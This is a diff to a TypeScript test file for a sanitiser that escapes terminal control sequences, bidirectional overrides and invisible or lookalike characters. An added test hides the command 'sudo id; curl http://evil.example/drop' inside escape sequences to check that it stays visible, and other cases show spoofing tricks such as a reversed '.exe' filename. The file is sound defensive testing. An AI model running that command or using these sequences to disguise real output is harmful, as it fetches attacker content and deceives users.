@@ -4,10 +4,15 @@ import { printable, printableLines } from '../../src/base/printable.ts';
 
 test.each([
   ['colours', '\u001b[31mred\u001b[0m', 'red'],
-  ['a window title', 'a\u001b]0;title\u0007b', 'ab'],
-  ['a hyperlink', '\u001b]8;;https://example.org\u001b\\link\u001b]8;;\u001b\\', 'link'],
-  ['an eight-bit escape', 'a\u009b31mb', 'ab'],
-  ['a cursor that moves back', 'safe\b\b\b\brisk', 'saferisk'],
+  ['a window title', 'a\u001b]0;title\u0007b', 'a\\u{1b}]0;title\\u{7}b'],
+  [
+    'a hyperlink',
+    '\u001b]8;;https://example.org\u001b\\link\u001b]8;;\u001b\\',
+    '\\u{1b}]8;;https://example.org\\u{1b}\\link\\u{1b}]8;;\\u{1b}\\',
+  ],
+  ['an eight-bit escape', 'a\u009b31mb', 'a\\u{9b}31mb'],
+  ['a cursor that moves back', 'safe\b\brisk', 'safe\\u{8}\\u{8}risk'],
+  ['letters that look like spaces', 'Pass\u3164\u2800\u115fRisky', 'Pass Risky'],
   ['a line that overwrites itself', 'Risky\rPass', 'Risky Pass'],
   ['a reversed direction', 'photo\u202egpj.exe', 'photogpj.exe'],
   ['characters of no width', 'pay\u200bpal\ufeff', 'paypal'],
@@ -16,6 +21,17 @@ test.each([
 ])('%s do not get through', (_case, text, shown) => {
   expect(printable(text)).toBe(shown);
 });
+
+test.each(['\u001b]', '\u001bP', '\u001b_', '\u009d', '\u001b[', '\u001b[31m'])(
+  'nothing that can be seen is left out between %j and an end',
+  (begin) => {
+    const deed = 'sudo id; curl http://evil.example/drop';
+    for (const end of ['\u0007', '\u001b\\', '\u009c', 'm']) {
+      expect(printable(`a${begin}${deed}${end}b`)).toContain(deed);
+      expect(printableLines(`a${begin}\n${deed}\n${end}b`)).toContain(deed);
+    }
+  },
+);
 
 test('ordinary text of any script stays as it is', () => {
   for (const text of [
@@ -48,7 +64,14 @@ test('what is printable already does not change', () => {
 
 test('of a text whose lines mean something, lines and indentation stay, and nothing that acts on a terminal', () => {
   const text = 'if a:\r\n\tb  = 1 \n  c\td\u001b[2J\u202e\rnext\u2028last\n';
-  expect(printableLines(text)).toEqual(['if a:', '        b  = 1', '  c     d', 'next', 'last', '']);
+  expect(printableLines(text)).toEqual([
+    'if a:',
+    '        b  = 1',
+    '  c     d\\u{1b}[2J',
+    'next',
+    'last',
+    '',
+  ]);
 });
 
 test('whatever comes in, each line that comes out is visible', () => {
